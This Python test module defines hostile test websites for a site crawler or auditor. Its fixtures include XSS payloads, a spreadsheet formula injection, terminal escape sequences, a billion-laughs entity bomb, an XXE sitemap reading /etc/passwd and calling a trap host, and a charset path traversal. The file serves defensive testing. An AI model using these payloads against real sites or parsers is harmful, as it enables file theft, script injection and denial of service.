"""Websites whose pages are hostile: to the parser, to the crawler, to the report."""

from tests.hostile.case import CANARY_CITIZEN, CANARY_HACK, Case, Site, outcomes
from tests.hostile.cases_http import BAD, CUT, NOT_THERE, flood
from tests.hostile.trap import Trap
from tests.peers.sites import Reply, Server, page

READ = ("pass", "warn")
FORMULA = '=HYPERLINK("http://127.66.0.66/","' + CANARY_HACK + '")'
LEFT = f"<p>Hòm thư góp ý, đường dây nóng: xem trang này {CANARY_HACK}</p>"
XML = "text/xml; charset=utf-8"


def pages(
    name: str,
    body: str | bytes,
    *allowed: str,
    kind: str = "text/html; charset=utf-8",
    **more: Reply,
) -> Case:
    """Return a site with this home page; `robots`, `sitemap`, `other` are its other answers."""

    def serve(trap: Trap) -> Site:
        written = body.replace("{trap}", trap.pair) if isinstance(body, str) else body
        told = {"/": page(written, kind=kind)}
        for path, reply in (
            ("/robots.txt", more.get("robots")),
            ("/sitemap.xml", more.get("sitemap")),
        ):
            if isinstance(reply, str):
                told[path] = page(reply.replace("{trap}", trap.pair), kind=XML)
            elif reply is not None:
                told[path] = reply  # type: ignore[assignment]
        return Site(server=Server(pages=told, other=more.get("other")))  # type: ignore[arg-type]

    allowed = allowed or READ
    seen = NOT_THERE if set(allowed) & set(READ) else frozenset()
    return Case(name=name, serve=serve, allowed=outcomes("WEB-01", *allowed), may_fail=seen)


def html(inner: str, head: str = "") -> str:
    """Return a page."""
    return f"<html><head><title>Xã Mẫu</title>{head}</head><body>{LEFT}{inner}</body></html>"


LEADS = "".join(
    f"<{tag}>"
    for tag in (
        "iframe src='http://{trap}/gop-y'", "a href='http://{trap}/gop-y'>Góp ý</a", "img src='//{trap}/a.png'",
        "link rel='canonical' href='http://{trap}/'", "script src='http://{trap}/a.js'></script",
        "form action='http://{trap}/gop-y'><input></form", "object data='http://{trap}/'></object",
        "base href='http://{trap}/'", "a href='/thu-tuc-hanh-chinh'>Thủ tục hành chính</a",
    )
)  # fmt: skip
HOSTILE_TITLE = (
    f"<script>alert('{CANARY_HACK}')</script><img src=x onerror=alert('{CANARY_HACK}')>"
    f"\x1b[2J\x1b]0;{CANARY_HACK}\x07\u202e\u2066{CANARY_HACK}\u200b {FORMULA}"
).replace("<", "&lt;")
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {n} "{f"&{p};" * 10}">' for p, n in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><urlset><url><loc>&i;</loc></url></urlset>"
)
OUTSIDE = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "http://{trap}/x"><!ENTITY f SYSTEM '
    '"file:///etc/passwd">]><urlset><url><loc>http://{trap}/&x;&f;</loc></url></urlset>'
)

CASES = (
    pages("meta-refresh-to-the-trap", html("", "<meta http-equiv=refresh content='0;url=http://{trap}/'>"), *READ, "unknown:not_configured:commune", "unknown:needs_browser:commune"),
    pages("everything-leads-to-the-trap", html(LEADS)),
    pages("robots-and-sitemap-lead-to-the-trap", html(""), robots="User-agent: *\nAllow: /\nSitemap: http://{trap}/sitemap.xml\n", sitemap="<urlset><url><loc>http://{trap}/gop-y</loc></url></urlset>"),
    pages("robots-without-end", html(""), *READ, "unknown:refused:commune", "unknown:timeout:commune", CUT, robots=flood(b"HTTP/1.1 200 OK\r\n\r\n", b"Disallow: /a\n" * 99)),
    pages("robots-of-five-megabytes", html(""), *READ, "unknown:refused:commune", robots=page(b"User-agent: *\n" + b"Disallow: /aaaaaaaaa/*b*c*d*$\n" * 170_000, kind="text/plain")),
    pages("robots-that-hates-regexes", html("<a href='/" + "a" * 300 + "'>Góp ý</a>"), robots=page("User-agent: *\nDisallow: /" + "*a" * 500 + "b$\n", kind="text/plain")),
    pages("an-entity-bomb-as-sitemap", html(""), sitemap=page(ENTITIES, kind=XML)),
    pages("a-sitemap-that-reads-files", html(""), sitemap=OUTSIDE),
    pages("nested-tags", html("<div>" * 80_000), *READ, CUT, "unknown:unreadable:auditor", BAD, "unknown:timeout:auditor"),
    pages("nested-tables", html("<table><tr><td>" * 30_000), *READ, CUT, "unknown:unreadable:auditor"),
    pages("thirty-kilobytes-of-opened-links", html("<a " * 10_000)),
    pages("a-million-attributes", html("<p " + " ".join(f"a{n}=b" for n in range(250_000)) + ">x</p>"), *READ, CUT, "unknown:unreadable:auditor", "unknown:unconfirmed:province"),
    pages("two-hundred-thousand-links", html("".join(f"<a href='/g{n}'>g</a>" for n in range(130_000))), *READ, CUT),
    pages("the-same-link-with-endless-queries", html("".join(f"<a href='/gop-y?n={n}'>Góp ý {n}</a>" for n in range(3_000))), other=html("")),
    pages("a-title-that-attacks-the-report", f"<html><head><title>{HOSTILE_TITLE}</title></head><body>{LEFT}<h1>{HOSTILE_TITLE}</h1><p>Đường dây nóng: {FORMULA} 0228.0000001</p><a href='/gop-y'>Góp ý {HOSTILE_TITLE}</a></body></html>"),
    pages("raw-scripts-in-the-page", html(f"<p>Đường dây nóng: <script>alert('{CANARY_HACK}')</script></p><svg onload=alert(1)><a href='javascript:alert(1)'>Góp ý</a>")),
    pages("a-citizens-number", html(f"<p>Đường dây nóng: {CANARY_CITIZEN}. Bà Nguyễn Thị Mẫu, CCCD {CANARY_CITIZEN}, góp ý: hòm thư</p>")),
    pages("utf-7", b"<html><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p></html>", *READ, BAD, kind="text/html; charset=utf-7"),
    pages("a-charset-that-is-a-codec", html(""), *READ, BAD, kind="text/html; charset=bz2_codec"),
    pages("a-charset-that-is-a-path", html(""), *READ, BAD, kind="text/html; charset=../../etc/passwd"),
    pages("utf-16-without-saying-so", html("").encode("utf-16"), *READ, BAD, "unknown:unreadable:commune"),
    pages("rubbish-called-html", bytes(range(256)) * 400, BAD, "unknown:unreadable:commune"),
    pages("a-pdf", b"%PDF-1.7\n" + b"\0" * 999, "unknown:unreadable:commune", kind="application/pdf"),
    pages("digits-that-explode-a-regex", html("<p>Đường dây nóng: " + "0 " * 20_000 + "x</p><p>" + "0" * 50_000 + "</p>")),
    pages("a-hacked-page", html("<div style='position:absolute;left:-9999px'>" + "<a href='http://{trap}/'>nhà cái uy tín</a>" * 300 + "</div>")),
    pages("every-page-is-the-same", html("".join(f"<a href='/t{n}'>Thủ tục hành chính {n}</a>" for n in range(50))), other=html("")),
)  # fmt: skip
